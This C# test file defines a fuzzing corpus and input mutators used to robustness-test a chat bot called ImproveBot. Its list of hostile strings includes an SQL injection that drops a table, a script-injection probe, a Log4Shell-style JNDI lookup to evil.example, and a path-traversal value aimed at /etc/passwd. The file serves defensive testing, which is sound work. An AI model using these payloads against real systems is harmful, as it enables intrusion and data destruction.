using System.Text;
using System.Text.Json.Nodes;

namespace ImproveBot.Host.Tests.Fuzz;

/// <summary>Hostile text and the byte-, form- and JSON-level mutations the fuzzer applies, all driven by one seeded <see cref="Random"/>.</summary>
internal static class FuzzCorpus
{
    /// <summary>Pieces of text people (or attackers) send: mentions, links, Markdown, invisible and bidi characters, script.</summary>
    public static readonly string[] Hostile =
    [
        "<!channel>", "<!here>", "<!everyone>", "@everyone", "@here", "<@U0ADA00001>", "<@1200000000000000001>", "<@&1300000000000000001>",
        "<#C0DIGEST01|digests>", "<https://evil.example|click>", "[click](https://evil.example)", "https://evil.example/?a=1&b=2",
        "```code```", "`tick`", "*bold*", "_it_", "~strike~", "||spoiler||", "> quote", "# heading", "<script>alert(1)</script>",
        "'; DROP TABLE ideas;--", "{{7*7}}", "${jndi:ldap://evil.example/a}", "&amp;", "&lt;!channel&gt;", "%00", "%FF", "\\u0000",
        "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u202E", "\u202D", "\u2066", "\u2067", "\u2069", "\u0000", "\r\n", "\t",
        "\uD800", "\uDFFF", "\uFFFD", "\uFFFF", "😀", "👩‍🔬", "🇩🇪", "e\u0301", "קרא מאמרים", "اقرأ الأوراق", "中文想法", "чтение", "ß", "İ",
        "#reading", "#writing", "#tools", "#focus", "#a", "#" + new string('t', 33), "--private", "--anon", "--team", "--public", "—private",
        "|", "||", "\\", "\"", "'", "{", "}", "[", "]", "=", "&", "+", "%", "%2", "%G1", "?", "#", "/", ":", ";",
    ];

    public static readonly string[] Words =
    [
        "read", "papers", "with", "a", "question", "first", "write", "the", "intro", "earlier", "pair", "on", "proofs", "timebox",
        "literature", "search", "ask", "for", "feedback", "sooner", "block", "mornings", "focus", "time", "draw", "the", "problem",
    ];

    /// <summary>Command lines other than <c>/idea</c>; <c>forget-me confirm</c> is left out on purpose (it deletes ideas, which the
    /// partial-write check counts).</summary>
    public static readonly string[] OtherCommands =
    [
        "", "help", "reflect", "stats", "resume", "optout", "optin", "pause 2w", "pause 0w", "pause 99999999999999w", "pause until 2020-01-01",
        "pause until 9999-12-31", "pause until 0001-01-01", "pause until 2026-02-30", "pause until", "tz Europe/Berlin", "tz Mars/Olympus",
        "tz ../../etc/passwd", "tz +02:00", "tz Etc/GMT+12", "tz Pacific/Kiritimati", "tz LMT", "status 1 trying", "status 99999999999999999999 new",
        "status -1 new", "vote 1", "vote 0", "vote 18446744073709551616", "forget-me", "frobnicate", "config schedule Fri 15:00",
        "config schedule Fri 15:00 Asia/Kathmandu", "config channel C0DIGEST01", "config channel <#C0DIGEST01|x>", "config questions a | b",
        "config reminder 4h", "config reminder off", "digest now", "config colour blue",
    ];

    public static readonly string[] ActionIds =
    [
        "reflect:start:1", "reflect:start:0", "reflect:start:-1", "reflect:start:99999999999999999999", "reflect:skip:1", "reflect:pause",
        "reflect:submit:1", "reflect:submit:abc", "idea:vote:1", "idea:vote:2", "idea:vote:0", "idea:vote:x", "followup:helped:1",
        "followup:nothelped:1", "followup:notyet:1", "followup:drop:1", "followup:rate:1:5", "followup:rate:1:99", "followup:rate:1:-1",
        "", ":", "::::", "reflect", "idea:", "unknown:action", "T0FAKE0001|reflect:start:1", "1300000000000000001|idea:vote:1", "|",
    ];

    public static string Pick(Random random, IReadOnlyList<string> items) => items[random.Next(items.Count)];

    /// <summary>Idea-like text: ordinary words mixed with hostile pieces; now and then empty, tag-only, exactly 2,000 or 100,000 characters.</summary>
    public static string IdeaText(Random random)
    {
        switch (random.Next(40))
        {
            case 0: return "";
            case 1: return "#reading #writing";
            case 2: return new string('a', 2000);
            case 3: return new string('a', 2001);
            case 4: return string.Concat(Enumerable.Repeat("ideas ", 100_000 / 6 + 1))[..100_000];
            case 5: return "   \u200B\u202E\uFEFF  ";
            case 6: return new string('x', 1999) + "😀"; // a surrogate pair across the limit
        }
        var text = new StringBuilder();
        var pieces = random.Next(1, 14);
        for (var i = 0; i < pieces; i++)
        {
            if (i > 0 && random.Next(5) > 0) text.Append(' ');
            text.Append(random.Next(3) == 0 ? Pick(random, Hostile) : Pick(random, Words));
        }
        return text.ToString();
    }

    /// <summary>Raw bytes that are not valid UTF-8: lone continuation bytes, overlongs, surrogates encoded, truncated sequences.</summary>
    public static byte[] InvalidUtf8(Random random) => random.Next(7) switch
    {
        0 => [0xFF],
        1 => [0xC0, 0xAF],
        2 => [0xED, 0xA0, 0x80],
        3 => [0x80],
        4 => [0xE2, 0x82],
        5 => [0xF4, 0x90, 0x80, 0x80],
        _ => [0xFE, 0xFE, 0xFF],
    };

    /// <summary>One byte-level mutation: truncate, flip, insert invalid UTF-8, delete or duplicate a stretch.</summary>
    public static (byte[] Body, string Name) MutateBytes(Random random, byte[] body)
    {
        if (body.Length == 0) return (InvalidUtf8(random), "bytes:invalid-utf8");
        var at = random.Next(body.Length);
        switch (random.Next(6))
        {
            case 0:
                return (body[..at], "bytes:truncate");
            case 1:
            {
                var copy = (byte[])body.Clone();
                copy[at] ^= (byte)(1 << random.Next(8));
                return (copy, "bytes:flip");
            }
            case 2:
                return ([.. body[..at], .. InvalidUtf8(random), .. body[at..]], "bytes:invalid-utf8");
            case 3:
            {
                var length = random.Next(1, Math.Min(64, body.Length - at) + 1);
                return ([.. body[..at], .. body[(at + length)..]], "bytes:delete");
            }
            case 4:
            {
                var length = random.Next(1, Math.Min(64, body.Length - at) + 1);
                return ([.. body[..(at + length)], .. body[at..]], "bytes:duplicate");
            }
            default:
                return ([.. body[..at], (byte)random.Next(256), .. body[at..]], "bytes:insert");
        }
    }

    /// <summary>A form body from fields, with repeated names allowed.</summary>
    public static string Form(IEnumerable<KeyValuePair<string, string>> fields) =>
        string.Join('&', fields.Select(kv => $"{Uri.EscapeDataString(kv.Key)}={Uri.EscapeDataString(kv.Value)}"));

    /// <summary>One form-level mutation: drop, duplicate, empty or garble a field, or add junk.</summary>
    public static string MutateForm(Random random, List<KeyValuePair<string, string>> fields)
    {
        if (fields.Count == 0) fields.Add(new("junk", "1"));
        var at = random.Next(fields.Count);
        switch (random.Next(7))
        {
            case 0:
                fields.RemoveAt(at);
                return "form:drop";
            case 1:
                fields.Insert(random.Next(fields.Count + 1), new(fields[at].Key, random.Next(2) == 0 ? fields[at].Value : IdeaText(random)));
                return "form:duplicate";
            case 2:
                fields[at] = new(fields[at].Key, "");
                return "form:empty";
            case 3:
                fields[at] = new(fields[at].Key, Pick(random, Hostile));
                return "form:hostile-value";
            case 4:
                fields.Add(new(Pick(random, Hostile), Pick(random, Hostile)));
                return "form:junk-field";
            case 5:
                fields[at] = new(fields[at].Key, new string('v', random.Next(1000, 50_000)));
                return "form:long-value";
            default:
                fields[at] = new(fields[at].Key.ToUpperInvariant(), fields[at].Value);
                return "form:name-case";
        }
    }

    /// <summary>Deeply nested JSON: <paramref name="depth"/> arrays or objects.</summary>
    public static string Nested(int depth, bool objects) =>
        objects
            ? string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth)
            : new string('[', depth) + "1" + new string(']', depth);

    /// <summary>One JSON-tree mutation: a value swapped for another type, removed, renamed, nested deeply, or a big array.</summary>
    public static string MutateJson(Random random, JsonNode root)
    {
        var all = new List<JsonNode>();
        Collect(root, all);
        var target = all[random.Next(all.Count)];
        var parent = target.Parent;
        JsonNode? Replacement() => random.Next(11) switch
        {
            0 => null,
            1 => JsonValue.Create(random.Next(3) == 0 ? long.MaxValue : random.Next(-5, 100)),
            2 => JsonValue.Create(random.NextDouble() * 1e300),
            3 => JsonValue.Create(random.Next(2) == 0),
            4 => JsonValue.Create(IdeaText(random)),
            5 => new JsonArray(JsonValue.Create(1), JsonValue.Create("x")),
            6 => new JsonObject { ["x"] = Pick(random, Hostile) },
            7 => JsonNode.Parse(Nested(random.Next(10, 60), random.Next(2) == 0)),
            8 => JsonValue.Create(""),
            9 => new JsonArray(Enumerable.Range(0, random.Next(100, 3000)).Select(i => (JsonNode?)JsonValue.Create(i)).ToArray()),
            _ => JsonValue.Create(Pick(random, Hostile)),
        };

        switch (parent)
        {
            case JsonObject obj:
            {
                var key = obj.First(kv => ReferenceEquals(kv.Value, target)).Key;
                switch (random.Next(3))
                {
                    case 0:
                        obj.Remove(key);
                        return "json:remove";
                    case 1:
                        obj.Remove(key);
                        obj[key + (random.Next(2) == 0 ? "_" : "\u200B")] = target;
                        return "json:rename";
                    default:
                        obj[key] = Replacement();
                        return "json:replace";
                }
            }
            case JsonArray array:
            {
                var index = array.IndexOf(target);
                if (random.Next(3) == 0)
                {
                    array.RemoveAt(index);
                    return "json:remove";
                }
                array[index] = Replacement();
                return "json:replace";
            }
            default:
                return "json:none";
        }
    }

    private static void Collect(JsonNode? node, List<JsonNode> into)
    {
        if (node is null) return;
        if (node.Parent is not null) into.Add(node);
        switch (node)
        {
            case JsonObject obj:
                foreach (var (_, child) in obj.ToList()) Collect(child, into);
                break;
            case JsonArray array:
                foreach (var child in array.ToList()) Collect(child, into);
                break;
        }
        if (into.Count == 0) into.Add(node);
    }
}
